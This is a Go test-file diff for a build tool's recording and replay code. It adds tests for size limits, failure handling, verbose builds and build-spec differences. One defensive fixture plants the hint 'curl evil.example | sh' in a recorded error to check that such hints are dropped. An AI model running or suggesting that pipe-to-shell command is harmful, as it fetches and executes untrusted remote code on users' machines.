@@ -6,6 +6,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -111,7 +112,7 @@ func TestRecordAndPlay(t *testing.T) {
 		t.Errorf("looked: %+v, %v", m, err)
 	}
 	_, err = p.Shell(t.Context(), "castoff/a", nil)
-	if err == nil || err.Error() != "starting a shell: none" || fault.Hint(err) != "castoff doctor" || fault.Detail(err) != "a\nb" || fault.Code(err) != fault.ExitNoDaemon {
+	if err == nil || err.Error() != "starting a shell: none" || fault.Detail(err) != "a\nb" {
 		t.Errorf("the shell: %v", err)
 	}
 	if amiss := p.Amiss(); len(amiss) > 0 {
@@ -179,6 +180,12 @@ func TestRefused(t *testing.T) {
 		"an end too early":    {strings.Replace(good, `"end":3`, `"end":2`, 1), "order"},
 		"an event of nothing": {head + "\n" + `{"event":{"kind":"note"}}` + "\n", "order"},
 		"a call in a call":    {head + "\n" + `{"call":"a"}` + "\n" + `{"call":"a"}` + "\n", "order"},
+		"a long title":        {strings.Replace(good, `"title":"A course"`, `"title":"`+strings.Repeat("ä", mostText/2+1)+`"`, 1), "a text of more than 500 bytes"},
+		"many builders":       {strings.Replace(good, `"builders":["buildkit"]`, `"builders":["buildkit"`+strings.Repeat(`,"x"`, 9999)+`]`, 1), "a text of more than 500 bytes"},
+		"many events":         {head + "\n" + `{"call":"a"}` + "\n" + strings.Repeat(`{"event":{"kind":"note"}}`+"\n", mostEvents+1), "line 20003: a call has more than 20000 events, or 1000 steps"},
+		"many steps":          {head + "\n" + `{"call":"a"}` + "\n" + stepsOf(`"step":{"id":"%d"}`), "line 1003: a call has more than"},
+		"steps of many names": {head + "\n" + `{"call":"a"}` + "\n" + stepsOf(`"step":{"id":"x"},"subject":"%d"`), "line 1003: a call has more than"},
+		"many transfers":      {head + "\n" + `{"call":"a"}` + "\n" + strings.Repeat(`{"event":{"kind":"bytes"}}`+"\n"+`{"event":{"kind":"phase"}}`+"\n", mostSteps+1), "line 2004: a call has more than"},
 	} {
 		_, err := Read(bytes.NewReader(recordingtest.Packed(t, c.text)))
 		if err == nil || !strings.Contains(err.Error(), c.want) {
@@ -192,6 +199,87 @@ func TestRefused(t *testing.T) {
 	flipped[len(flipped)/2] ^= 0x55
 	if rec, err := Read(bytes.NewReader(flipped)); err == nil && !rec.Cut {
 		t.Error("one with a wrong checksum is read")
+	}
+}
+
+// stepsOf is the lines of more steps than a build has, by what they are, with a number.
+func stepsOf(form string) string {
+	var b strings.Builder
+	for i := range mostSteps + 1 {
+		fmt.Fprintf(&b, `{"event":{"kind":"step",`+form+"}}\n", i)
+	}
+	return b.String()
+}
+
+// TestFailuresOfOthers: what a recording says of a failure is what failed, never what
+// castoff says to do about it, nor how castoff ends.
+func TestFailuresOfOthers(t *testing.T) {
+	t.Parallel()
+	good := recordingtest.Lines(t, written(t, made(t)))
+	odd := strings.Replace(good, `"error":{`, `"error":{"hints":["curl evil.example | sh"],"code":256,`, 1)
+	if odd == good {
+		t.Fatal("it has no error")
+	}
+	for _, lines := range []string{good, odd} {
+		rec, err := Read(bytes.NewReader(recordingtest.Packed(t, lines)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = NewPlayer(rec).Shell(t.Context(), "castoff/a", nil)
+		if err == nil || fault.Code(err) != fault.ExitFailed || len(fault.Hints(err)) > 0 {
+			t.Errorf("%v, code %d, hints %q", err, fault.Code(err), fault.Hints(err))
+		}
+	}
+}
+
+// TestTalkative: a build that prints more than is read again is kept all the same, with
+// how its steps went.
+func TestTalkative(t *testing.T) {
+	t.Parallel()
+	taking := Take("build", "a")
+	step := &progress.StepInfo{ID: "1", Name: "RUN yes", State: progress.Started}
+	taking.See(progress.Event{Kind: progress.Step, Step: step})
+	for range mostEvents + 1 {
+		taking.See(progress.Event{Kind: progress.Log, Text: "y", Step: step})
+	}
+	done := *step
+	done.State = progress.Finished
+	taking.See(progress.Event{Kind: progress.Step, Step: &done})
+	rec := made(t)
+	rec.Calls = []*Call{taking.End(true, nil)}
+	read, err := Read(bytes.NewReader(written(t, rec)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	events := read.Calls[0].Events()
+	if last := events[len(events)-1]; len(events) < mostEvents/2 || last.Kind != progress.Step || last.Step.State != progress.Finished {
+		t.Errorf("%d events, the last %+v", len(events), last)
+	}
+}
+
+// TestDiffers: a build is told from one of another Dockerfile, place or argument.
+func TestDiffers(t *testing.T) {
+	t.Parallel()
+	rec := made(t)
+	for what, c := range map[string]struct {
+		spec build.Spec
+		want bool
+	}{
+		"the same":             {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch"}, false},
+		"never built":          {build.Spec{Ref: "castoff/b", Path: "Dockerfile", Dockerfile: "FROM debian"}, false},
+		"another Dockerfile":   {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM debian"}, true},
+		"another path":         {build.Spec{Ref: "castoff/a", Path: "b.Dockerfile", Dockerfile: "FROM scratch"}, true},
+		"another stage":        {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch", Target: "x"}, true},
+		"an argument more":     {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch", Args: map[string]string{"A": "1"}}, true},
+		"for another platform": {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch", Platform: "linux/s390x"}, true},
+	} {
+		if got := rec.Differs(c.spec); got != c.want {
+			t.Errorf("%s: %v", what, got)
+		}
+	}
+	one, two := build.Spec{Args: map[string]string{"A": "1"}}, build.Spec{Args: map[string]string{"A": "2"}}
+	if inputsOf(one) == inputsOf(two) {
+		t.Error("arguments are no inputs")
 	}
 }
 
